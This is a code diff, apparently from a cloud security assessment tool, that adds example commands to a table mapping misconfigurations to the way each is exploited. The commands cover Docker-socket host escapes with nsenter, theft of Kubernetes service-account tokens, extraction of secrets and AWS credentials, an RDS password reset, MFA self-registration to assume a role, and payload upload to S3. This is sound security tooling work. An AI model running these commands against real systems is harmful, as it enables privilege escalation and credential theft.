@@ -55,6 +55,35 @@ _COMMANDS: dict[str, tuple[str, ...]] = {
     "hostpath-runtime-socket": (
         "docker -H unix:///<socket> run --privileged --pid=host alpine nsenter -t 1 -a sh",
     ),
+    "credentials-in-config": (
+        "aws lambda get-function-configuration --function-name <function>  # or the holder's describe",
+        "export AWS_ACCESS_KEY_ID=<found> AWS_SECRET_ACCESS_KEY=<found>",
+    ),
+    "secret-in-manifest": ('kubectl --token "$TOKEN" get deploy,cm -o yaml | grep -i -A1 <name>',),
+    "rbac-pod-create-token": (
+        'kubectl --token "$TOKEN" run x --image=alpine --overrides='
+        '\'{"spec":{"serviceAccountName":"<sa>"}}\' -- cat '
+        "/var/run/secrets/kubernetes.io/serviceaccount/token",
+    ),
+    "rds:ModifyDBInstance": (
+        "aws rds modify-db-instance --db-instance-identifier <db> "
+        "--master-user-password '<new>' --apply-immediately",
+    ),
+    "iam:CreateVirtualMFADevice+iam:EnableMFADevice+sts:AssumeRole": (
+        "aws iam create-virtual-mfa-device --virtual-mfa-device-name <self> --outfile qr.png "
+        "--bootstrap-method Base32StringSeed",
+        "aws iam enable-mfa-device --user-name <self> --serial-number <arn> "
+        "--authentication-code1 <code> --authentication-code2 <next-code>",
+        "aws sts assume-role --role-arn <role-arn> --role-session-name x --serial-number <arn> "
+        "--token-code <code>",
+    ),
+    "s3:PutObject (code in S3)": ("aws s3 cp ./payload s3://<bucket>/<key>",),
+    "codebuild:StartBuild": (
+        "aws codebuild start-build --project-name <project> --buildspec-override file://bs.yml",
+    ),
+    "ecs-host-escape": (
+        "docker -H unix:///var/run/docker.sock run --privileged --pid=host alpine",
+    ),
     "irsa": (
         "aws sts assume-role-with-web-identity --role-arn <role-arn> "
         '--web-identity-token "$(cat $AWS_WEB_IDENTITY_TOKEN_FILE)" --role-session-name x',
